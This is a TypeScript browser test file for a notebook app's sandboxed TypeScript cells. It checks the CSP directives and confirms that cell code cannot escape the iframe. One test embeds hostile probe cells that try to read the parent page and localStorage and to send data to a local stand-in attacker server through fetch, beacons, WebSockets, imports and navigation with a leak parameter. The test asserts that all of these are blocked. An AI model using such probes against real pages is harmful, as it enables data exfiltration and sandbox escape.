/**
 * TypeScript cells run in a sandboxed frame (issue #14): the app's CSP has no 'unsafe-eval',
 * cell code computes what it should through the page's connector, and cannot reach the page,
 * its storage, the network or another origin (an attacker server on a second port counts hits).
 */
import { expect, test } from 'vitest';
import { inject } from 'vitest';
import type { Page } from 'playwright-core';
import { notebookIdle as idle } from './app-helpers';
import { cell, hostileSession, openTrusted } from './notebook-helpers';

const session = hostileSession();
const start = () => session.start();

test('the app and the exported report forbid eval, forms, <base> and plugins', async () => {
  const html = await (await fetch(inject('appUrl'))).text();
  const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? '';
  const d = Object.fromEntries(csp.split(';').map((x) => x.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
  expect(d['script-src']).not.toContain("'unsafe-eval'");
  expect(d['form-action']).toEqual(["'none'"]);
  expect(d['base-uri']).toEqual(["'none'"]);
  expect(d['object-src']).toEqual(["'none'"]);
  expect(d['frame-src']).toEqual(["'self'"]);
  const sandbox = await (await fetch(new URL('ts-sandbox.html', inject('appUrl')))).text();
  const sd = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(sandbox)?.[1] ?? '';
  expect(sd).toContain("connect-src 'none'");
  expect(sd).toContain("form-action 'none'");
  expect(sd).toMatch(/default-src 'none'/);
});

test('TS cells compute in the sandbox through the page connector; their tables are queryable from SQL', async () => {
  const page = await start();
  const text = `---\ntitle: TS\n---\n\n\`\`\`ts id=a name=a\nconst r = await sql\`SELECT 2 + \${3} AS x\`;\nreturn md\`x=\${r[0].x}, mean=\${stats.mean([1, 2, 3, 6])}, t=\${(await sql.arrow\`SELECT 1 AS one\`).numRows}\`;\n\`\`\`\n\n\`\`\`ts id=rows name=rows\nreturn [{ k: 'a', v: 1 }, { k: 'b', v: 4 }];\n\`\`\`\n\n\`\`\`sql id=s name=s\nSELECT sum(v) AS total FROM rows\n\`\`\`\n\n\`\`\`ts id=b name=b\nreturn rows.length * 10 + s[0].total + tables.rows.numRows;\n\`\`\`\n`;
  await openTrusted(page, text);
  await idle(page);
  await expect.poll(() => cell(page, 'b').getAttribute('data-status')).toBe('done');
  expect((await cell(page, 'a').getByTestId('cell-md').textContent())?.trim()).toBe('x=5, mean=3, t=1');
  expect(await cell(page, 's').getAttribute('data-status')).toBe('done');
  expect((await cell(page, 'b').getByTestId('cell-value').textContent())?.trim()).toBe(String(2 * 10 + 5 + 2));
  expect(await page.locator('iframe[data-testid=ts-sandbox]').getAttribute('sandbox')).toBe('allow-scripts');
  expect(session.app.offOrigin).toEqual([]);
});

test('a trusted TS cell cannot reach the page, its storage, the network or another origin', async () => {
  const page = await start();
  await page.evaluate(() => localStorage.setItem('secret', 'ФИО'));
  const probes = `const out: Record<string, string> = {};
const tryIt = async (name: string, f: () => unknown) => { try { await f(); out[name] = 'ok'; } catch (e) { out[name] = 'blocked'; } };
await tryIt('parent', () => (window.parent as any).document.title);
await tryIt('top', () => { (window.top as any).location.href = '${session.attacker.url}top'; });
await tryIt('storage', () => localStorage.getItem('secret'));
await tryIt('idb', () => indexedDB.open('x'));
await tryIt('fetch', () => fetch('${session.attacker.url}fetch'));
await tryIt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '${session.attacker.url}xhr'); x.send(); });
await tryIt('beacon', () => { if (!navigator.sendBeacon('${session.attacker.url}beacon', 'x')) throw new Error('no'); });
await tryIt('open', () => { if (!window.open('${session.attacker.url}open')) throw new Error('no'); });
await tryIt('img', () => { const i = new Image(); i.src = '${session.attacker.url}img'; document.body.appendChild(i); });
await tryIt('ws', () => new WebSocket('${session.attacker.url.replace('http', 'ws')}ws'));
await tryIt('import', () => import('${session.attacker.url}mod.js'));
return out;`;
  const text = `---\ntitle: Враждебный TS\n---\n\n\`\`\`ts id=p name=p\n${probes}\n\`\`\`\n\n\`\`\`ts id=nav name=nav\nlocation.href = '${session.attacker.url}nav?leak=' + (await sql\`SELECT 42 AS n\`)[0].n;\nawait new Promise((r) => setTimeout(r, 3000));\nreturn 'осталась';\n\`\`\`\n\n\`\`\`ts id=after name=after\nreturn 7;\n\`\`\`\n`;
  await openTrusted(page, text);
  await idle(page);
  await expect.poll(() => cell(page, 'after').getAttribute('data-status'), { timeout: 30_000 }).toBe('done');
  const probed = JSON.parse((await cell(page, 'p').getByTestId('cell-value').textContent()) ?? '{}');
  // XHR fails asynchronously (onerror), so only the hit count below tells it was stopped.
  for (const k of ['parent', 'top', 'storage', 'idb', 'fetch', 'open', 'import']) expect([k, probed[k]]).toEqual([k, 'blocked']);
  await page.waitForTimeout(1500);
  expect(page.url().startsWith(session.app.url)).toBe(true);
  expect(await page.evaluate(() => localStorage.getItem('secret'))).toBe('ФИО');
  expect(session.attacker.hits).toEqual([]);
});
